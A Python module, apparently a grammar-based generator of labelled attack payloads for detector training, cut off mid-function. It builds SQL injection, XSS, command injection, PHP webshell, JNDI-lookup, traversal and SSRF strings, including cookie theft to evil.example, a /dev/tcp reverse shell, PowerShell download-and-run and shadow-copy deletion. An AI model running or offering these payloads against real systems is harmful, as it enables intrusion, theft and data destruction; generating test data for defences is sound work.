"""Attack payloads by class, made from grammars: what a technique consists of, its vocabulary, and the evasions that hide
it. Written from the public descriptions of the techniques; nothing is copied from a list of payloads or from rules.

Enters: a random generator. Leaves: (class, payload) pairs. It sends nothing.
"""

import base64
import string
import urllib.parse

SQL_FUNCTIONS = """sleep benchmark pg_sleep concat group_concat concat_ws char chr ascii ord substring substr mid left right length char_length hex unhex
load_file version user current_user system_user session_user database schema extractvalue updatexml floor rand count if ifnull nullif isnull coalesce
cast convert exp geometrycollection multipoint polygon linestring name_const row_count found_rows last_insert_id uuid md5 sha1 sha2 aes_encrypt make_set elt field
find_in_set greatest least instr locate position lower upper ltrim rtrim trim replace reverse repeat space strcmp to_char to_number utl_http.request utl_inaddr.get_host_address
dbms_pipe.receive_message dbms_lock.sleep ctxsys.drithsx.sn xmltype sys_eval db_name object_id col_name host_name is_srvrolemember openrowset xp_cmdshell xp_dirtree sp_executesql sp_password
string_agg array_to_string pg_read_file lo_import current_setting query_to_xml randomblob zeroblob sqlite_version typeof glob json_extract json_keys regexp_substring regexp_like bin oct conv crc32 quote""".split()
SQL_TABLES = """information_schema.tables information_schema.columns information_schema.schemata mysql.user mysql.db pg_catalog.pg_user pg_tables pg_shadow sysobjects syscolumns sys.objects sys.databases
master..sysdatabases all_tables user_tables all_users dual sqlite_master users user members accounts admin customers msysobjects syscat.tables sysibm.sysdummy1 v$version rdb$database performance_schema.threads""".split()
SHELL = """id whoami uname hostname pwd ls cat tac head tail more less nl od xxd strings sort ps top w who last env printenv set export echo printf ping nslookup dig host wget curl fetch nc ncat netcat socat telnet ssh scp ftp tftp
bash sh zsh dash ksh busybox python python3 perl ruby php node lua awk gawk sed find xargs tee cp mv rm ln chmod chown mkdir touch dd tar gzip base64 rev crontab at nohup kill killall ifconfig ip netstat ss arp route mount df
sudo su passwd useradd gcc cc make apt-get yum apk git vi ed file stat time timeout watch nice sleep exec eval source alias trap command type which locate systemctl service docker kubectl aws""".split()
SHELL_ARGS = ["/etc/passwd", "/etc/shadow", "/etc/hosts", "-la", "-al /", "-a", "-c 4 127.0.0.1", "http://evil.example/a.sh", "-O /tmp/x http://203.0.113.7/x", "evil.example", "-e /bin/sh 203.0.113.7 4444", "-i", "-rf /tmp/x", "+x /tmp/a", "aux", "$HOME", "~/.ssh/id_rsa", "/proc/self/environ", "-n 1", "10", "-d @/etc/passwd http://evil.example", "test", ""]  # tidy: not of a machine
# A `~` stands for a blank.
WINDOWS = [one.replace("~", " ") for one in """dir type net~user net~localgroup~administrators ipconfig~/all systeminfo tasklist whoami~/priv ver set echo~%PATH% ping~-n~4~127.0.0.1 nslookup~evil.example certutil~-urlcache~-f~http://evil.example/a.exe
bitsadmin~/transfer~j~http://evil.example/a powershell~-nop~-w~hidden~-c wmic~process~list reg~query~HKLM\\Software mshta~http://evil.example/a.hta rundll32~javascript: cscript regsvr32~/s~/u schtasks~/query copy del~/f move attrib start calc.exe
net~view net~share net~use net~start net~session net~accounts~/domain net~group~/domain net~user~{w}~{w}~/add net~localgroup~administrators~{w}~/add netsh~wlan~show~profiles netsh~advfirewall~set~allprofiles~state~off netstat~-ano arp~-a route~print
nbtstat~-n getmac hostname sc~query sc~stop~{w} qwinsta query~user gpresult~/r driverquery wevtutil~cl~Security vssadmin~delete~shadows~/all icacls~C:\\ takeown~/f~C:\\{w} tree~C:\\ findstr~/si~password~*.txt cmdkey~/list where~cmd fsutil~fsinfo~drives
type~C:\\Windows\\win.ini type~C:\\boot.ini type~%WINDIR%\\System32\\drivers\\etc\\hosts type~%USERPROFILE%\\{w}.txt type~%SYSTEMROOT%\\{w}\\{w}.log dir~C:\\ dir~/s~C:\\{w} dir~%TEMP% dir~C:\\Users\\{w} more~C:\\{w}\\{w}.ini reg~save~HKLM\\SAM~C:\\{w} taskkill~/f~/im~{w}.exe shutdown~/r~/t~0""".split()]
POWERSHELL = [one.replace("~", " ") for one in """Invoke-Expression Invoke-WebRequest Invoke-Command Get-ChildItem Get-Content Get-Process Set-ExecutionPolicy New-Object~Net.WebClient Start-Process DownloadString Out-File ConvertTo-Json Get-WmiObject Add-Type Test-Path Remove-Item""".split()]
PHP = """system exec passthru shell_exec popen proc_open pcntl_exec eval assert create_function call_user_func call_user_func_array array_map usort preg_replace include require include_once require_once file_get_contents file_put_contents fopen fwrite
readfile highlight_file show_source move_uploaded_file copy unlink rename chmod phpinfo phpversion getenv ini_set set_time_limit base64_decode gzinflate str_rot13 gzuncompress unserialize extract parse_str mail curl_exec fsockopen getcwd scandir glob
opendir posix_getpwuid print_r var_dump md5 die get_defined_vars get_defined_functions func_get_args register_shutdown_function ob_start dl symlink simplexml_load_string hex2bin chr bin2hex error_log putenv array_filter ReflectionFunction""".split()
JAVA = """java.lang.Runtime java.lang.ProcessBuilder java.lang.Class java.lang.System java.lang.Thread java.lang.ClassLoader java.lang.reflect.Method java.io.File java.io.FileInputStream java.io.InputStreamReader java.io.BufferedReader java.io.PrintWriter java.net.URL
java.net.URLClassLoader java.net.Socket java.util.Scanner java.util.HashMap java.util.PriorityQueue javax.script.ScriptEngineManager javax.naming.InitialContext javax.management.BadAttributeValueExpException com.opensymphony.xwork2.dispatcher.HttpServletResponse
org.apache.commons.io.IOUtils org.apache.commons.collections.functors.InvokerTransformer org.apache.struts2.ServletActionContext org.springframework.context.support.ClassPathXmlApplicationContext freemarker.template.utility.Execute ognl.OgnlContext
sun.misc.Unsafe com.sun.rowset.JdbcRowSetImpl com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl org.codehaus.groovy.runtime.ConvertedClosure groovy.lang.GroovyShell bsh.Interpreter clojure.core$eval org.mozilla.javascript.NativeError org.yaml.snakeyaml.Yaml""".split()
JAVA_CALLS = ["getRuntime().exec('{c}')", "forName('java.lang.Runtime')", "getMethod('exec', ''.getClass())", "getInputStream()", "newInstance()", "getClass().getClassLoader()", "getDeclaredMethods()[0]", "invoke(null)", "start()", "toString()", ""]
TAGS = """script img svg iframe body input a div video audio source details marquee object embed form button textarea select option keygen math table td link meta base style title bgsound isindex layer xml image animate set foreignObject template noscript frameset frame applet
p b i span h1 br hr li article section header footer nav main dialog picture canvas map area track ruby rt slot x custom-tag""".split()
EVENTS = """onload onerror onclick ondblclick onmouseover onmouseenter onmousemove onmouseout onmousedown onmouseup onmousewheel onwheel onfocus onfocusin onblur onchange oninput oninvalid onselect onsubmit onreset onkeydown onkeypress onkeyup ondrag ondragstart ondragend ondragenter ondragover ondrop oncopy oncut onpaste
onscroll onresize ontoggle onplay onplaying onpause onended oncanplay onloadstart onloadeddata onprogress ontimeupdate onvolumechange onseeked onanimationstart onanimationend ontransitionend onpageshow onpagehide onhashchange onpopstate onmessage onstorage onbeforeunload onunload onpointerover onpointerdown onpointerenter
ontouchstart ontouchend onbegin onend onrepeat onshow onsearch onafterprint onbeforeprint oncontextmenu onauxclick onreadystatechange onfilterchange onpropertychange onbounce onstart onfinish onactivate onbeforeactivate oncuechange ondurationchange onsecuritypolicyviolation onslotchange onbeforeinput""".split()
SCRIPTS = ["alert(1)", "alert(document.cookie)", "alert`1`", "confirm(1)", "prompt(document.domain)", "eval(name)", "eval(atob('YWxlcnQoMSk='))", "fetch('//evil.example/?'+document.cookie)", "document.location='http://evil.example/'+document.cookie", "window.open('//evil.example')", "new Image().src='//evil.example/'+document.cookie",
           "import('//evil.example/a.js')", "top['al'+'ert'](1)", "self[atob('YWxlcnQ=')](1)", "(alert)(1)", "[1].find(alert)", "[]['constructor']['constructor']('alert(1)')()", "Function('alert(1)')()", "setTimeout('alert(1)')", "setInterval(alert,9)", "String.fromCharCode(88,83,83)", "throw onerror=alert,1", "document.write('<img src=x>')", "$.getScript('//evil.example')",
           "location='javascript:alert(1)'", "navigator.sendBeacon('//evil.example',document.cookie)", "document.body.innerHTML=''", "localStorage.getItem('token')", "window['ale'+(!![]+[])[+!+[]]]", "\\u0061lert(1)", "al\\u0065rt(1)", "globalThis.alert(1)", "parent.alert(1)", "Reflect.apply(alert,0,[1])", "print()", "console.log(1)", "debugger"]
FILES = """etc/passwd etc/shadow etc/hosts etc/issue etc/group etc/fstab etc/crontab etc/resolv.conf etc/ssh/sshd_config etc/apache2/apache2.conf etc/nginx/nginx.conf etc/mysql/my.cnf etc/php.ini proc/self/environ proc/self/cmdline proc/version proc/net/tcp
var/log/apache2/access.log var/log/nginx/error.log var/log/auth.log var/log/syslog var/www/html/config.php var/mail/root root/.ssh/id_rsa root/.bash_history home/user/.ssh/authorized_keys boot.ini windows/win.ini windows/system32/drivers/etc/hosts
windows/system32/config/sam windows/repair/sam winnt/system32/cmd.exe inetpub/wwwroot/web.config WEB-INF/web.xml WEB-INF/classes/jdbc.properties META-INF/MANIFEST.MF .env .git/config .htaccess .htpasswd wp-config.php config/database.yml application.properties""".split()
DOTS = ["..", "..", "..", "..", "....", "..;", "%2e%2e", ".%2e", "%252e%252e", "%c0%ae%c0%ae", "%uff0e%uff0e", "%e0%80%ae%e0%80%ae", "%f0%80%80%ae%f0%80%80%ae", "%25c0%25ae%25c0%25ae", "．．", "?.", ".?", "??", "..%00", "0x2e0x2e", ".\x00.", "&#46;&#46;", "\\x2e\\x2e", "\\u002e\\u002e", "..%0d", "%2e."]
SLASHES = ["/", "/", "/", "/", "\\", "\\", "//", "\\/", "%2f", "%5c", "%252f", "%255c", "%c0%af", "%c1%9c", "%c0%2f", "%e0%80%af", "%u2215", "%u2216", "%25c0%25af", "%uF025", "%c1%1c", "%f8%80%80%80%af", "0x2f", "0x5c", "∕", "∖", "／", "＼", "%%32%66", "%2%66", "///", "\\\\\\", "/./", "%bg%qf", "%c0%9v", "%c1%8s"]
HOSTS = """127.0.0.1 localhost 0.0.0.0 [::1] [::] 127.1 127.0.1 0177.0.0.1 0x7f.0.0.1 0x7f000001 2130706433 017700000001 [::ffff:127.0.0.1] localtest.me 127.0.0.1.nip.io 169.254.169.254 [fd00:ec2::254] metadata.google.internal 100.100.100.200 192.168.0.1 192.168.1.254 10.0.0.1 172.16.0.1
169.254.169.254.nip.io 2852039166 0xA9FEA9FE instance-data kubernetes.default.svc host.docker.internal evil.example 203.0.113.9""".split()

NAMES = """a b c d e f g i k n p q r s t x y z id ip to by cc db go js me no ok op os ui up url uid key add age all any api app arg bar bin box cat cmd col css day dir doc end env err ext fax fee file foo form func get group hash head help host html icon image
index info input item job json lang last line link list lock log login mail main map menu mode month name news next node note num order page param part pass path pay photo pic port post price print prod proxy query rate read ref report rule sale save scan
score send shop show size sku sort state step stock store style sum tag target task team temp term test text theme time title token tool total track type unit update user users value view vote week word year zone admin account article author basket
blog board book branch brand buyer cache call camera card cart case category chart chat city class client code color comment company config contact content country course customer data date debug default detail device dialog draft editor email event export
feed field filter folder footer forum gallery game guest header home hotel import invoice label language layer layout letter library limit loader location manager market media member message method metric model module movie music network notice number
object office option output owner package parent party password payment phone place player plugin point policy pool portal product profile project public rating record region remote request result review right route sample schema screen script search
section server service session setting shift signal source space sport stage station status stream student subject submit summary support survey switch symbol system table teacher template tenant thread ticket topic trade training transfer travel upload
vendor version video visitor wallet warehouse website widget window worker""".split()


class Attacks:
    """All grammars over one random generator."""

    def __init__(self, rng):
        self.r = rng
        self.makers = [(self.sqli, 5), (self.xss, 5), (self.shell, 3), (self.windows, 1), (self.php, 2), (self.java, 2), (self.script, 1), (self.template, 2), (self.traversal, 4), (self.rfi, 1.5), (self.ssrf, 1.5), (self.xxe, 1.5), (self.deserialisation, 1.5), (self.nosql, 1), (self.other, 1.5), (self.redirect, 1.5)]

    def one(self):
        """A class and a payload."""
        maker = self.r.choices([m for m, _ in self.makers], [w for _, w in self.makers])[0]
        kind, value = maker()
        return kind, value

    def n(self, high=9999):
        return str(self.r.randint(0, self.r.choice((9, 99, high))))

    def word(self, low=2, high=8):
        # Names as applications have them; letters by chance would give the generator away.
        fitting = [name for name in NAMES if low <= len(name) <= high]
        if fitting and self.r.random() < 0.75:
            return self.r.choice(fitting)
        return "".join(self.r.choice(string.ascii_lowercase) for _ in range(self.r.randint(low, high)))

    def case(self, text):
        how = self.r.random()
        if how < 0.55:
            return text
        return text.upper() if how < 0.75 else text.lower() if how < 0.85 else "".join(c.upper() if self.r.random() < 0.5 else c.lower() for c in text)

    # SQL

    def sql_term(self, depth=0):
        r, n = self.r, self.n
        function = r.choice(SQL_FUNCTIONS)
        return r.choice([
            lambda: n(), lambda: n(), lambda: f"'{self.word()}'", lambda: f'"{self.word()}"', lambda: "0x" + self.word(4, 12).encode().hex(), lambda: f"{function}()", lambda: f"@@{r.choice(('version', 'hostname', 'datadir', 'basedir', 'servername', 'global.version'))}",
            lambda: f"{function}({self.sql_term(depth + 1)})" if depth < 3 else n(), lambda: f"{function}({self.sql_term(depth + 1)},{self.sql_term(depth + 1)})" if depth < 3 else n(),
            lambda: f"(select {self.sql_column()} from {r.choice(SQL_TABLES)}{r.choice(('', ' limit 1', ' where ' + self.word() + '=' + n(), ' limit 0,1'))})" if depth < 2 else n(), lambda: f"char({','.join(n(120) for _ in range(r.randint(1, 6)))})", lambda: "||".join(f"chr({n(120)})" for _ in range(r.randint(2, 5))), lambda: "null", lambda: "true",
            lambda: f"(case when ({self.sql_test(depth + 1)}) then {n()} else {n()} end)" if depth < 2 else n(), lambda: f"cast({self.sql_term(depth + 1)} as {r.choice(('char', 'int', 'numeric', 'varchar(99)', 'nvarchar(4000)', 'signed'))})" if depth < 3 else n(),
        ])()

    def sql_column(self):
        r = self.r
        return r.choice(["*", "null", "1", "table_name", "column_name", "password", "username,password", "concat(user,0x3a,password)", "group_concat(table_name)", "count(*)", "@@version", "banner", "name", "schema_name", "email", self.word(), f"{r.choice(SQL_FUNCTIONS)}({self.n()})"])

    def sql_test(self, depth=0):
        r, n = self.r, self.n
        same = n()
        return r.choice([
            lambda: f"{same}={same}", lambda: f"{n()}={n()}", lambda: f"'{same}'='{same}'", lambda: f"'{self.word()}'='{self.word()}", lambda: f'"{same}"="{same}', lambda: f"{n()}<{n()}", lambda: f"{n()}>{n()}", lambda: "true", lambda: "not false", lambda: f"{n()} between {n()} and {n()}", lambda: f"'{same}' like '{same}",
            lambda: f"{self.sql_term(depth + 1)}={self.sql_term(depth + 1)}", lambda: f"{self.sql_term(depth + 1)}>{n()}", lambda: f"{self.word()} is {r.choice(('', 'not '))}null", lambda: f"exists(select {self.sql_column()} from {r.choice(SQL_TABLES)})", lambda: f"{n()} in ({n()},{n()})", lambda: f"{self.word()} rlike {n()}", lambda: f"{n()} regexp {n()}", lambda: f"'a' sounds like 'a", lambda: f"'{self.word()}'<>'{self.word()}'", lambda: f"{n()} div {n()}", lambda: f"'{same}'||'{n()}'='{same}{n()}",
        ])()

    def sql_body(self):
        r, n = self.r, self.n
        join = r.choice(("or", "and", "or", "and", "||", "&&", "xor", "or not", "having"))
        columns = ",".join(r.choice(("null", n(9), self.sql_column(), self.sql_term(2))) for _ in range(r.randint(1, 8)))
        return r.choice([
            lambda: f" {join} {self.sql_test()}", lambda: f" {join} {self.sql_test()}", lambda: f" {join} ({self.sql_test()})", lambda: f" union {r.choice(('', 'all ', 'distinct '))}select {columns}", lambda: f" union {r.choice(('', 'all '))}select {columns} from {r.choice(SQL_TABLES)}", lambda: f" order by {n(30)}", lambda: f" group by {self.word()} having {self.sql_test()}",
            lambda: f" {join} {self.sql_term()}", lambda: f" procedure analyse(extractvalue({n()},concat(0x3a,version())),1)", lambda: f" into outfile '/var/www/{self.word()}.php'", lambda: f" limit {n(9)} offset {n(9)}", lambda: f"-{self.sql_term()}", lambda: f"; {self.sql_statement()}", lambda: f";{self.sql_statement()}", lambda: f" {join} {self.sql_term()}", lambda: f"||{self.sql_term()}||", lambda: f"+{self.sql_term()}+", lambda: f" {r.choice(('like', 'in', 'rlike', 'between'))} {self.sql_term()}", lambda: f" and (select {n()} from (select count(*),concat({self.sql_term(1)},floor(rand(0)*2))x from {r.choice(SQL_TABLES)} group by x)a)",
        ])()

    def sql_statement(self):
        r, w = self.r, self.word
        return r.choice([
            lambda: f"drop {r.choice(('table', 'database', 'view', 'user', 'procedure'))} {r.choice(('', 'if exists '))}{w()}", lambda: f"insert into {r.choice(SQL_TABLES)} values('{w()}','{w()}')", lambda: f"update {w()} set {w()}={self.sql_term(1)} where {self.sql_test(1)}", lambda: f"delete from {w()}", lambda: f"exec {r.choice(('master..xp_cmdshell', 'sp_executesql N', 'xp_dirtree', 'sp_configure'))} '{r.choice(SHELL)}'", lambda: f"waitfor delay '0:0:{self.n(9)}'", lambda: f"declare @{w(1, 2)} varchar(8000) set @{w(1, 2)}=0x{w().encode().hex()} exec(@{w(1, 2)})", lambda: f"shutdown", lambda: f"select {self.sql_column()} from {r.choice(SQL_TABLES)}", lambda: f"select pg_sleep({self.n(9)})", lambda: f"copy {w()} from program '{r.choice(SHELL)}'", lambda: f"create {r.choice(('table', 'function', 'user', 'or replace function'))} {w()}", lambda: f"alter table {w()} drop column {w()}", lambda: f"truncate table {w()}", lambda: f"grant all on *.* to {w()}", lambda: f"load data infile '/etc/passwd' into table {w()}", lambda: f"begin dbms_lock.sleep({self.n(9)}); end", lambda: f"attach database '/var/www/{w()}.php' as {w()}", lambda: f"merge into {w()} using {w()}", lambda: f"handler {w()} open", lambda: f"set @{w(1, 2)}='select'; prepare {w(1, 3)} from @{w(1, 2)}",
        ])()

    def sqli(self):
        r = self.r
        before = r.choice(["", "", "1", "-1", self.n(), "'", '"', "1'", '1"', "')", '")', "'))", "1)", "1))", "%'", "%')", "`", "\\'", "admin'", f"{self.word()}'", f"{self.word()}\"", "a' ", "1;", "' ", "'/**/", "(", "0x1"])
        value = before + self.sql_body() + r.choice(["", "", "", "--", "-- ", "-- -", "--+", "#", ";--", "/*", ";%00", " -- " + self.word(), "' or '1'='1", ")", "and '1'='1", "%23", "\x00", "`", "/*!*/"])
        if not before and r.random() < 0.4:
            value = self.sql_statement()
        value = self.case(value)
        if r.random() < 0.35:
            gap = r.choice(["/**/", "\t", "\n", "\r\n", "\x0b", "\x0c", "+", "%20", "  ", "/*" + self.word() + "*/", "/*!*/", "%09", "%0a", "(", "\xa0", "--" + self.word() + "\n", "/**//**/"])
            value = value.replace(" ", gap)
        if r.random() < 0.08:
            value = value.replace("select", "/*!50000select*/").replace("union", "/*!union*/").replace("SELECT", "sel/**/ect")
        return "sqli", value

    # Scripts in pages

    def xss(self):
        r = self.r
        script, event, tag = r.choice(SCRIPTS), r.choice(EVENTS), r.choice(TAGS)
        quote = r.choice(["", "", "'", '"', "`"])
        gap = r.choice([" ", " ", " ", "/", "\t", "\n", "\x0c", "/x/", " x=1 ", " style=x:y ", ' id="x" ', " tabindex=1 "])
        value = r.choice([
            lambda: f"<script>{script}</script>", lambda: f"<script{r.choice((' ', '/', ' type=text/javascript ', ' x '))}>{script}</script>", lambda: f"<script src={quote}//evil.example/{self.word()}.js{quote}></script>", lambda: f"<{tag}{gap}{event}={quote}{script}{quote}>", lambda: f"<{tag}{gap}{event}={quote}{script}{quote}>{self.word()}</{tag}>", lambda: f"<{tag} src=x {event}={script}>", lambda: f"<{tag} src={quote}{self.word(1, 2)}{quote}{gap}{event}={quote}{script}{quote}//",
            lambda: f"{quote} {event}={quote}{script}", lambda: f"{quote} autofocus {event}={script} x={quote}", lambda: f"javascript:{script}", lambda: f"<a href={quote}{self.js_url(script)}{quote}>{self.word()}</a>", lambda: f"<iframe src={quote}{self.js_url(script)}{quote}></iframe>", lambda: f"<iframe srcdoc={quote}<script>{script}</script>{quote}>", lambda: f"<object data={quote}{self.js_url(script)}{quote}>", lambda: f"<embed src={self.js_url(script)}>",
            lambda: f"<form action={self.js_url(script)}><button>x</button></form>", lambda: f"<button formaction={quote}{self.js_url(script)}{quote}>x", lambda: f"<meta http-equiv=refresh content={quote}0;url={self.js_url(script)}{quote}>", lambda: f"<svg><animate {event}={script} attributeName=x dur=1s>", lambda: f"<svg><script>{script}</script></svg>", lambda: f"<svg><a xlink:href={quote}{self.js_url(script)}{quote}><text>x</text></a></svg>", lambda: f"<math><mtext><style><img src=x {event}={script}></style>",
            lambda: f"<style>@import '//evil.example/a.css';</style>", lambda: f"<div style=\"{r.choice(('width:expression(' + script + ')', 'background:url(javascript:' + script + ')', '-moz-binding:url(//evil.example/x.xml)', 'behavior:url(x.htc)'))}\">", lambda: f"<link rel={r.choice(('import', 'stylesheet', 'prefetch'))} href=//evil.example/a>", lambda: f"<base href=//evil.example/>", lambda: f"</script><script>{script}</script>", lambda: f"</{r.choice(('title', 'textarea', 'style', 'noscript', 'template'))}><{tag} {event}={script}>",
            lambda: f"';{script};//", lambda: f'";{script};//', lambda: f"'-{script}-'", lambda: f'"-{script}-"', lambda: f"\\';{script}//", lambda: f"${{{script}}}", lambda: f"'+{script}+'", lambda: f"</script>{self.word()}", lambda: f"<!--><img src=x {event}={script}>-->", lambda: f"<![CDATA[<script>{script}</script>]]>", lambda: f"{script}", lambda: f"<img src=`x`{event}={script}>", lambda: f"<<script>{script}//<</script>", lambda: f"<scr<script>ipt>{script}</scr</script>ipt>", lambda: f"<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{script}</x:script>",
            lambda: "".join(r.choice(("[]", "![]", "!![]", "+[]", "(![]+[])", "[+!+[]]", "[+[]]", "(+!![]+[])", "+")) for _ in range(r.randint(12, 40))), lambda: f"<{tag} {event}\n=\n{script}>", lambda: f"data:text/html;base64,{base64.b64encode(('<script>' + script + '</script>').encode()).decode()}", lambda: f"<{self.word(1, 4)} {event}={script} contenteditable>x", lambda: f"<input type={r.choice(('image', 'text', 'search'))} {event}={quote}{script}{quote} autofocus>", lambda: f"<{tag}><{r.choice(TAGS)} {event}={script}>",
        ])()
        how = r.random()
        if how < 0.15:
            value = "".join(c.upper() if r.random() < 0.4 else c for c in value)
        elif how < 0.22:
            value = "".join(f"&#{ord(c)};" if r.random() < 0.3 else c for c in value)
        elif how < 0.27:
            value = "".join(f"\\x{ord(c):02x}" if r.random() < 0.4 and ord(c) < 256 else c for c in value)
        elif how < 0.30:
            value = "".join(f"\\u{ord(c):04x}" for c in value)
        elif how < 0.33:
            value = value.replace("<", "＜").replace(">", "＞")
        return "xss", r.choice(["", "", "", '"', "'", '">', "'>", "-->", self.word(), "1"]) + value

    def js_url(self, script):
        name = self.r.choice(["javascript:", "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "javascript&colon;", "&#106;avascript:", "jav&#x09;ascript:", " javascript:", "\x01javascript:", "vbscript:", "data:text/html,<script>", "javascript://%0a", "livescript:"])
        return name + script

    # Commands and code

    def command(self):
        r = self.r
        text = f"{r.choice(SHELL)} {r.choice(SHELL_ARGS)}".strip()
        how = r.random()
        if how < 0.06:
            text = text.replace(" ", r.choice(("${IFS}", "$IFS$9", "<", "\t", "{,}")))
        elif how < 0.12:
            at = r.randrange(1, len(text) - 1) if len(text) > 2 else 1
            text = text[:at] + r.choice(("''", '""', "\\", "$@", "${x}", "$()", "``")) + text[at:]
        elif how < 0.15:
            text = "{" + text.replace(" ", ",") + "}"
        elif how < 0.18:
            text = f"echo {base64.b64encode(text.encode()).decode()}|base64 -d|{r.choice(('sh', 'bash'))}"
        elif how < 0.21:
            text = r.choice(("/???/c?t /???/p?ss??", "/bin/c'a't /et*/pass*", "/usr/bin/id", "/bin/ls -l", "c\\at /e\\tc/pas\\swd", "$(printf '\\x69\\x64')", "a=i;b=d;$a$b", "w`u`h`u`o`u`a`u`mi", "rev<<<'dwssap/cte/ tac'|sh", "bash<<<id", "exec 3<>/dev/tcp/203.0.113.7/80"))
        elif how < 0.26:
            text = f"bash -{r.choice('ic')} {r.choice(('>& /dev/tcp/203.0.113.7/443 0>&1', chr(39) + text + chr(39)))}"
        elif how < 0.34:
            text = f"{text}{r.choice((' | ', '; ', ' && ', ' || ', ' > /tmp/', ' 2>&1 | ', ' >> ', '|'))}{r.choice(SHELL)} {r.choice(SHELL_ARGS)}"  # tidy: not of a machine
        return text

    def shell(self):
        r, c = self.r, self.command()
        form = r.choice(["{b};{c}", "{b}; {c}", "{b}|{c}", "{b} | {c}", "{b}||{c}", "{b}&{c}", "{b}&&{c}", "{b} && {c} #", "{b}`{c}`", "{b}$({c})", "{b}\n{c}", "{b}\r\n{c}\n", "{b}%0a{c}", "{b};{c};", "{b}'; {c} #", '{b}";{c};"', "{b}'|{c}", "{b}<({c})", "{b}|{c}|", "() {{ :;}}; {c}", "{c}", "{b}$(({c}))", "{b}; if [ 1 ]; then {c}; fi", "{b}; for i in 1 2; do {c}; done", "{b}; while true; do {c}; done", "{b}`{c}` #", "|{c}#", "{b};{c}%00", "!{c}", "{b} -o ProxyCommand='{c}'", "$(sleep 5){b}", "|| {c} ||"])
        return "rce", form.format(b=r.choice(["", "", "1", "x", "127.0.0.1", "a.txt", "evil.example", self.word(), '"', "'"]), c=c)

    def windows_command(self):
        return self.r.choice(WINDOWS).replace("{w}", self.word())

    def windows(self):
        r, w = self.r, self.word
        c = self.windows_command()
        return "rce", self.case(r.choice([
            lambda: c if " " in c else f"{c} &", lambda: f"; {c}", lambda: f"|{c}", lambda: f"&{c}&", lambda: f"|| {c}", lambda: f"{w()}&{c}", lambda: f"{w()} | {c}", lambda: f"& {c} & ", lambda: f"'&{c}&'", lambda: f"{self.n()}|{c}||",
            lambda: f"& {c}", lambda: f"| {c}", lambda: f"&& {c} &&", lambda: f"cmd.exe /c {c}", lambda: f"cmd /k \"{c}\"", lambda: f"%COMSPEC% /c {c}", lambda: f"for /f \"tokens=*\" %i in ('{c}') do {r.choice(('echo', 'call', 'start'))} %i", lambda: f"for /l %x in (1,1,{self.n(99)}) do {c}", lambda: f"for /r C:\\ %f in (*.{w(2, 3)}) do {c}", lambda: f"if exist C:\\{w()} {c}", lambda: f"if not errorlevel 1 {c}", lambda: f"if \"%{w()}%\"==\"{w()}\" ({c}) else ({self.windows_command()})", lambda: f"if defined {w()} {c}", lambda: f"powershell {r.choice(POWERSHELL)} {w()}", lambda: f"powershell -enc {base64.b64encode(c.encode('utf-16le')).decode()}", lambda: f"powershell -ep bypass -c \"{r.choice(POWERSHELL)}('http://evil.example/{w()}.ps1')\"", lambda: f"{r.choice(POWERSHELL)} {w()}", lambda: f"IEX(New-Object Net.WebClient).DownloadString('http://evil.example/{w()}')", lambda: f"c^m^d /c {c}", lambda: f"set /a {w()}={self.n()} & {c}", lambda: f"\\\\203.0.113.7\\share\\{w()}.exe", lambda: f"{c} > C:\\inetpub\\wwwroot\\{w()}.txt",
        ])())

    def php(self):
        r, w = self.r, self.word
        f, g = r.choice(PHP), r.choice(PHP)
        data = r.choice([f"$_GET['{w(1, 4)}']", f"$_POST[{w(1, 3)}]", f"$_REQUEST['{w(1, 4)}']", "$_SERVER['HTTP_X']", f"$_COOKIE[{self.n(9)}]", f"'{self.command()}'", f"'{w()}'", "$_FILES['f']['tmp_name']", f"{g}('{w()}')", "getallheaders()", "php://input", f"chr({self.n(120)}).chr({self.n(120)})", f"base64_decode('{base64.b64encode(w().encode()).decode()}')"])
        return "rce", self.case(r.choice([
            lambda: f"<?php {f}({data}); ?>", lambda: f"<?php {f}({data});", lambda: f"<?= {f}({data}) ?>", lambda: f"<? {f}({data}); ?>", lambda: f"{f}({data});", lambda: f"{f}({data})", lambda: f"{w()};{f}({data});//", lambda: f"';{f}({data});'", lambda: f"{{${{{f}({data})}}}}", lambda: f"${{@{f}({data})}}", lambda: f"<?php ${w(1, 3)}={data};${w(1, 3)}({data}); ?>", lambda: f"@{f}(${w()});", lambda: f"@eval({data});", lambda: f"<?=`{self.command()}`?>", lambda: f"<script language=\"php\">{f}({data});</script>", lambda: f"/{w()}/e", lambda: f"print(`{self.command()}`)", lambda: f"'.{f}({data}).'", lambda: f"${{{f}({data})}}", lambda: f"GIF89a<?php {f}({data}); ?>", lambda: f"({f})({data})", lambda: f"\"{f}\"({data})", lambda: f"('{f[:2]}'.'{f[2:]}')({data})", lambda: f"$GLOBALS['{w()}']({data})", lambda: f"{f}/**/({data})", lambda: f"die({f}({data}))", lambda: f"_SESSION[{w()}]={data}", lambda: f"GLOBALS[{w()}]={w()}", lambda: f"auto_prepend_file={data}",
        ])()) if r.random() < 0.15 else self.case_none(f, data)

    def case_none(self, f, data):
        w = self.word
        return self.r.choice([f"<?php {f}({data}); ?>", f"{f}({data});", f"<?php @{f}({data}); ?>", f"{f}({data})", f"';{f}({data});//", f"${{@{f}({data})}}", f"<?php if(isset({data})){{{f}({data});}} ?>", f"<?php $x={data};{f}($x);die; ?>", f"{{{{{f}({data})}}}}", f"{w()}=/bin/{f}&arg={data}"])

    def java(self):
        r = self.r
        cls, c = r.choice(JAVA), self.command().replace("'", "")
        call = r.choice(JAVA_CALLS).format(c=c)
        ldap = f"{r.choice(('ldap', 'rmi', 'dns', 'ldaps', 'iiop', 'corba', 'nis'))}://{r.choice(('evil.example', '203.0.113.7:1389', '${hostName}.evil.example', '127.0.0.1#evil.example'))}/{self.word()}"
        jndi = "jndi:"
        if r.random() < 0.5:
            jndi = "".join(r.choice((c, f"${{lower:{c}}}", f"${{upper:{c}}}", f"${{::-{c}}}", f"${{env:{self.word(2, 4)}:-{c}}}", c, c)) for c in "jndi:")
        kind, value = r.choice([
